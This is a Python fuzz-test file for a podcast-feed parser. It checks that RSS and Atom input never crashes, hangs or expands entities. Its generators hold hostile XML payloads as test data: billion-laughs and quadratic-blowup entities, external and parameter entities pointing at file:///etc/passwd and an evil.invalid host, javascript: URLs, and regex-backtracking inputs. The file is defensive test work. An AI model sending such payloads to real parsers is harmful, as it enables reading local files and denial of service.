"""Fuzz target: podcast feeds (RSS 2.0 / Atom 1.0) never crash, hang or expand entities.

Inputs, written to a file and planned as a run does (``Download.plan`` with ``feeds``,
then ``process`` with every host denied, so nothing is fetched): random bytes behind an
XML-ish prefix; random RSS/Atom documents built from the tags and attributes the parser
reads (enclosures, ``media:content``/``media:group``, iTunes, Dublin Core, Creative
Commons, Atom links and ``xml:base``) with random, missing, huge or absurd values (URLs,
lengths and durations of thousands of digits, dates, HTML); entity declarations
(billion laughs, quadratic blowup, external and parameter entities) and deeply nested
elements.

Invariant: the plan never raises; a feed that cannot be used is one ``bad_feed`` reject,
its items are planned otherwise; every planned row ends as exactly one reject with a
reason (no network: hosts are denied), never an ``error``; nothing is written outside the
run directory; each example finishes within :data:`DEADLINE_S`.

Budget: the ``ci`` profile's examples (200) shared by the three targets below.
"""

from __future__ import annotations

import itertools
import os
import shutil
from pathlib import Path
from typing import Any
from xml.etree import ElementTree as ET  # noqa: N817
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from speechmill.pipeline.records import first_copies
from speechmill.pipeline.stage import StageContext
from speechmill.stages.download import Download, DownloadConfig
from tests.fuzz.harness import budget, refuse_network, time_limit

DEADLINE_S = 10.0
N_TARGETS = 3
BUDGET = budget(N_TARGETS)

#: reasons a denied-host run may give a planned feed row
REASONS = {"bad_feed", "blocked_host", "bad_url", "duplicate_url"}


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    refuse_network(monkeypatch)


_N = itertools.count()


def plan_and_process(tmp_path: Path, data: bytes, name: str = "feed.xml"
                     ) -> tuple[list[dict], list[dict]]:
    case = tmp_path / f"case{next(_N)}"
    (case / "in").mkdir(parents=True)
    feed = case / "in" / name
    feed.write_bytes(data)
    run_dir = case / "run"
    before = set(case.rglob("*"))
    cwd = os.getcwd()
    os.chdir(case)
    try:
        with time_limit(DEADLINE_S):
            stage = Download(DownloadConfig(feeds=[str(feed)], deny_hosts=["*"],
                                            max_retries=0),
                             StageContext("dl", str(run_dir)))
            plan = stage.plan()
            plan = plan.filter(first_copies(plan.column("id")))  # as the runner does
            stage.setup()
            res = stage.process(plan)
    finally:
        os.chdir(cwd)
    new = {p for p in set(case.rglob("*")) - before if run_dir not in p.parents
           and p != run_dir}
    assert not new, f"files written outside the run dir: {sorted(new)}"
    rows, rej = plan.to_pylist(), res.rejects.to_pylist()
    assert res.outputs.num_rows == 0  # every host is denied
    assert sorted(r["id"] for r in rej) == sorted(r["id"] for r in rows)
    for r in rej:
        assert r["reason"] in REASONS, r
    errs = [r for r in rows if r["plan_error"] and not r["plan_error"].startswith(
        "duplicate_url\t")]
    if errs:  # a bad feed is one row
        assert len(rows) == 1 and errs[0]["plan_error"].startswith("bad_feed\t"), rows
    shutil.rmtree(case, ignore_errors=True)  # (a long run makes thousands)
    return rows, rej


# -- random bytes ---------------------------------------------------------------------------

_PREFIXES = [b"", b"<?xml version='1.0'?>", b"<?xml version='1.0' encoding='latin-1'?>",
             b"<rss version='2.0'><channel><item>",
             b"<feed xmlns='http://www.w3.org/2005/Atom'><entry>", b"\xef\xbb\xbf<rss>",
             b"<!DOCTYPE rss [", b"\xff\xfe<\x00r\x00s\x00s\x00",
             b"<?xml version='1.0' encoding='bogus'?>", b"<?xml version='1.0' encoding='rot13'?>",
             b"<?xml version='1.0' encoding='utf-16'?>", b"<?xml version='1.0' encoding='utf-7'?>"]


@BUDGET
@given(prefix=st.sampled_from(_PREFIXES), body=st.binary(max_size=512))
@example(prefix=b"", body=b"")
@example(prefix=b"<rss version='2.0'><channel><item>", body=b"\x00")
# found: an unknown encoding in the XML declaration raised LookupError out of the plan
@example(prefix=b"<?xml version='1.0' encoding='bogus'?>", body=b"<rss/>")
@example(prefix=b"<?xml version='1.0' encoding='rot13'?>", body=b"<rss/>")
def test_random_bytes(tmp_path: Path, prefix: bytes, body: bytes) -> None:
    plan_and_process(tmp_path, prefix + body)


# -- random RSS / Atom documents -------------------------------------------------------------

NS = {
    "itunes": "http://www.itunes.com/dtds/podcast-1.0.dtd",
    "media": "http://search.yahoo.com/mrss/",
    "dc": "http://purl.org/dc/elements/1.1/",
    "atom": "http://www.w3.org/2005/Atom",
    "cc": "http://backend.userland.com/creativeCommonsRssModule",
}
_DIGITS = "9" * 5000
VALUES = st.one_of(
    st.text(max_size=16),
    st.sampled_from([
        "", " ", "https://cdn.example/ep.mp3", "/rel/ep.m4a", "ep.ogg", "//h.example/x.mp3",
        "javascript:alert(1)", "file:///etc/passwd", "http://[::1", "http://[", "http://a:99999/x.mp3",
        "http://user:pw@h.example/a.mp3", "http://\u0000.example/a.mp3", "http://例え.jp/a.mp3",
        "audio/mpeg", "video/mp4", "application/octet-stream", "image/png", "audio",
        "-1", "0", "1e9", _DIGITS, _DIGITS + ":00", "00:" + _DIGITS, "1:2:3:4", "12.5",
        "01:02:03", "Mon, 15 Jan 2024 12:30:00 +0200", "2024-13-45T99:99:99Z",
        "Mon, 32 Foo 99999 25:61:61 +9999", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+14:00",
        "<p>html &amp; <b>tags</b><script>x</script>", "x" * 20_000, "\u202e\u200b", "alternate",
        "enclosure", "license", "html", "xhtml",
    ]),
)

_RSS_ITEM_TAGS = ["title", "link", "guid", "pubDate", "description", "author",
                  "itunes:duration", "itunes:episode", "itunes:season", "itunes:author",
                  "itunes:title", "itunes:summary", "dc:date", "dc:creator", "dc:rights",
                  "media:description", "media:copyright", "cc:license", "content:encoded"]
_ATTRS = ["url", "type", "length", "href", "rel", "medium", "fileSize", "duration",
          "xml:base", "version"]


@st.composite
def elements(draw: Any, tags: list[str], depth: int = 0) -> str:
    tag = draw(st.sampled_from(tags))
    attrs = draw(st.dictionaries(st.sampled_from(_ATTRS), VALUES, max_size=4))
    a = "".join(f" {k}={quoteattr(v)}" for k, v in attrs.items())
    if draw(st.booleans()):
        return f"<{tag}{a}/>"
    text = draw(VALUES)
    body = escape(text) if draw(st.integers(0, 9)) else f"<![CDATA[{text.replace(']]>', '')}]]>"
    return f"<{tag}{a}>{body}</{tag}>"


ENCLOSURES = st.one_of(
    st.builds(lambda u, t, n: f"<enclosure url={quoteattr(u)} type={quoteattr(t)} "
              f"length={quoteattr(n)}/>", VALUES, VALUES, VALUES),
    st.builds(lambda u, t, d, m: f"<media:content url={quoteattr(u)} type={quoteattr(t)} "
              f"duration={quoteattr(d)} medium={quoteattr(m)} fileSize={quoteattr(d)}/>",
              VALUES, VALUES, VALUES, VALUES),
    st.builds(lambda u: f"<media:group><media:content url={quoteattr(u)}/></media:group>",
              VALUES),
    st.builds(lambda u, t, n: f"<atom:link rel='enclosure' href={quoteattr(u)} "
              f"type={quoteattr(t)} length={quoteattr(n)}/>", VALUES, VALUES, VALUES),
)


@st.composite
def rss_docs(draw: Any) -> str:
    items = []
    for _ in range(draw(st.integers(0, 4))):
        parts = draw(st.lists(st.one_of(ENCLOSURES, elements(_RSS_ITEM_TAGS)), max_size=6))
        items.append("<item>" + "".join(parts) + "</item>")
    channel = draw(st.lists(elements(["title", "link", "language", "copyright",
                                      "itunes:author", "managingEditor", "dc:creator",
                                      "cc:license", "dc:language"]), max_size=4))
    ns = " ".join(f'xmlns:{k}="{v}"' for k, v in NS.items())
    return (f"<?xml version='1.0' encoding='UTF-8'?><rss version='2.0' {ns}><channel>"
            + "".join(channel) + "".join(items) + "</channel></rss>")


@st.composite
def atom_docs(draw: Any) -> str:
    entries = []
    for _ in range(draw(st.integers(0, 4))):
        parts = draw(st.lists(st.one_of(
            ENCLOSURES.map(lambda e: e.replace("atom:link", "link")),
            elements(["title", "summary", "content", "id", "published", "updated",
                      "link", "itunes:duration", "rights"]),
            st.builds(lambda n: f"<author><name>{escape(n)}</name></author>", VALUES),
        ), max_size=6))
        base = draw(st.sampled_from(["", " xml:base='sub/'", " xml:base='http://[x'",
                                     " xml:base='javascript:x'"]))
        entries.append(f"<entry{base}>" + "".join(parts) + "</entry>")
    base = draw(st.sampled_from(["", " xml:base='https://h.example/a/'",
                                 " xml:base='\u0000'"]))
    lang = draw(st.sampled_from(["", " xml:lang='de'", " xml:lang=''"]))
    ns = " ".join(f'xmlns:{k}="{v}"' for k, v in NS.items() if k != "atom")
    return (f"<feed xmlns='http://www.w3.org/2005/Atom' {ns}{base}{lang}>"
            "<title type='html'>&lt;b&gt;t&lt;/b&gt;</title>" + "".join(entries) + "</feed>")


@BUDGET
@given(doc=st.one_of(rss_docs(), atom_docs()),
       encoding=st.sampled_from(["utf-8", "raw", "latin-1", "bogus", "utf-16"]))
@example(doc="<rss version='2.0'><channel><item><enclosure url='https://h.example/a.mp3' "
         f"type='audio/mpeg' length='{_DIGITS}'/></item></channel></rss>", encoding="utf-8")
@example(doc="<rss version='2.0' xmlns:itunes='http://www.itunes.com/dtds/podcast-1.0.dtd'>"
         "<channel><item><enclosure url='https://h.example/a.mp3' type='audio/mpeg'/>"
         f"<itunes:duration>{_DIGITS}:00:00</itunes:duration></item></channel></rss>",
         encoding="utf-8")
@example(doc="<rss version='2.0'><channel><item><enclosure url='http://[::1' "
         "type='audio/mpeg'/></item></channel></rss>", encoding="utf-8")
def test_random_feeds(tmp_path: Path, doc: str, encoding: str) -> None:
    if encoding in ("utf-8", "raw"):
        data = doc.encode("utf-8", "strict" if encoding == "utf-8" else "replace")
    else:  # a declared encoding (bogus: unknown to Python; utf-16: a lie)
        doc = doc.removeprefix("<?xml version='1.0' encoding='UTF-8'?>")
        data = (f"<?xml version='1.0' encoding='{encoding}'?>" + doc).encode(
            "latin-1" if encoding == "latin-1" else "utf-8", "replace")
    rows, _ = plan_and_process(tmp_path, data)
    try:
        ET.fromstring(data)  # (the generated documents declare no entities)
    except (ET.ParseError, LookupError, ValueError):  # (not well-formed, or its encoding)
        return
    # well-formed XML: one odd value (a 5000-digit length, a broken URL) costs at most its
    # item, never the feed
    assert not any((r["plan_error"] or "").startswith("bad_feed") for r in rows), rows
    for r in rows:  # every planned item names an http(s)-ish URL string
        assert isinstance(r["source_url"], str) and r["source_url"]


# -- entity expansion, external entities, deep nesting, huge attributes ------------------------

_LOL = ("<!DOCTYPE rss [<!ENTITY lol0 \"lol\">"
        + "".join(f"<!ENTITY lol{i} \"{f'&lol{i - 1};' * 10}\">" for i in range(1, 10))
        + "]>")


@st.composite
def hostile_docs(draw: Any) -> str:
    kind = draw(st.sampled_from(["laughs", "quadratic", "external", "parameter", "deep",
                                 "deep_text", "huge_attr", "many_items", "nul_ref",
                                 "at_author", "html_tags"]))
    n = draw(st.integers(1, 200_000))
    if kind == "laughs":
        return _LOL + "<rss version='2.0'><channel><title>&lol9;</title></channel></rss>"
    if kind == "quadratic":
        return ("<!DOCTYPE rss [<!ENTITY a \"" + "x" * min(n, 50_000) + "\">]>"
                "<rss><channel><title>" + "&a;" * 1000 + "</title></channel></rss>")
    if kind == "external":
        url = draw(st.sampled_from(["file:///etc/passwd", "http://evil.invalid/x",
                                    "/dev/zero"]))
        return (f"<!DOCTYPE rss [<!ENTITY x SYSTEM \"{url}\">]>"
                "<rss><channel><title>&x;</title></channel></rss>")
    if kind == "parameter":
        return ("<!DOCTYPE rss [<!ENTITY % p SYSTEM \"http://evil.invalid/p.dtd\"> %p;]>"
                "<rss><channel/></rss>")
    if kind == "deep":
        m = min(n, 20_000)
        return "<rss><channel>" + "<item>" * m + "</item>" * m + "</channel></rss>"
    if kind == "deep_text":  # nested elements inside a text field and an enclosure's item
        m = min(n, 20_000)
        return ("<rss><channel><item><title>" + "<b>" * m + "x" + "</b>" * m + "</title>"
                "<enclosure url='https://h.example/a.mp3' type='audio/mpeg'/>"
                "</item></channel></rss>")
    if kind == "huge_attr":
        v = "a" * min(n, 200_000)
        return (f"<rss version='{v}'><channel><item><enclosure url='https://h.example/{v}.mp3'"
                f" type='audio/{v}' length='{v}'/></item></channel></rss>")
    if kind == "many_items":
        m = min(n, 500)
        return ("<rss><channel>" + "".join(
            f"<item><enclosure url='https://h.example/{i % 50}.mp3' type='audio/mpeg'/></item>"
            for i in range(m)) + "</channel></rss>")
    if kind in ("at_author", "html_tags"):
        m = min(n, 20_000)
        field = (f"<managingEditor>{'@' * m}</managingEditor><item><author>{'a@' * m} ("
                 "</author>" if kind == "at_author" else
                 f"<item><description>{escape('<a ' * m)}</description>")
        return ("<rss><channel>" + field + "<enclosure url='https://h.example/a.mp3' "
                "type='audio/mpeg'/></item></channel></rss>")
    return "<rss><channel><title>&#0;</title></channel></rss>"


@BUDGET
@given(doc=hostile_docs())
@example(doc="<rss><channel>" + "<item>" * 100_000 + "</item>" * 100_000 + "</channel></rss>")
@example(doc="<rss version='2.0'><channel><item><enclosure url='https://h.example/"
         + "a" * 2_000_000 + ".mp3' type='audio/mpeg'/></item></channel></rss>")
@example(doc="<rss><channel><item><title>" + "<b>" * 50_000 + "x" + "</b>" * 50_000
         + "</title><enclosure url='https://h.example/a.mp3' type='audio/mpeg'/>"
         "</item></channel></rss>")
# found: a 20k-character author of '@'s: the e-mail regex backtracked for seconds (cubic)
@example(doc="<rss><channel><managingEditor>" + "@" * 20_000 + "</managingEditor><item>"
         "<author>" + "a@" * 20_000 + " (</author><enclosure url='https://h.example/a.mp3' "
         "type='audio/mpeg'/></item></channel></rss>")
# found: a description of 20k unterminated tags: html.parser rescans each, quadratic (minutes
# for 100 KB)
@example(doc="<rss><channel><item><description>" + "&lt;a " * 20_000 + "</description>"
         "<enclosure url='https://h.example/a.mp3' type='audio/mpeg'/></item></channel></rss>")
def test_hostile_xml(tmp_path: Path, doc: str) -> None:
    rows, _ = plan_and_process(tmp_path, doc.encode())
    if "<!ENTITY" in doc:  # refused, never expanded or fetched
        assert len(rows) == 1 and "unsafe feed XML" in rows[0]["plan_error"], rows
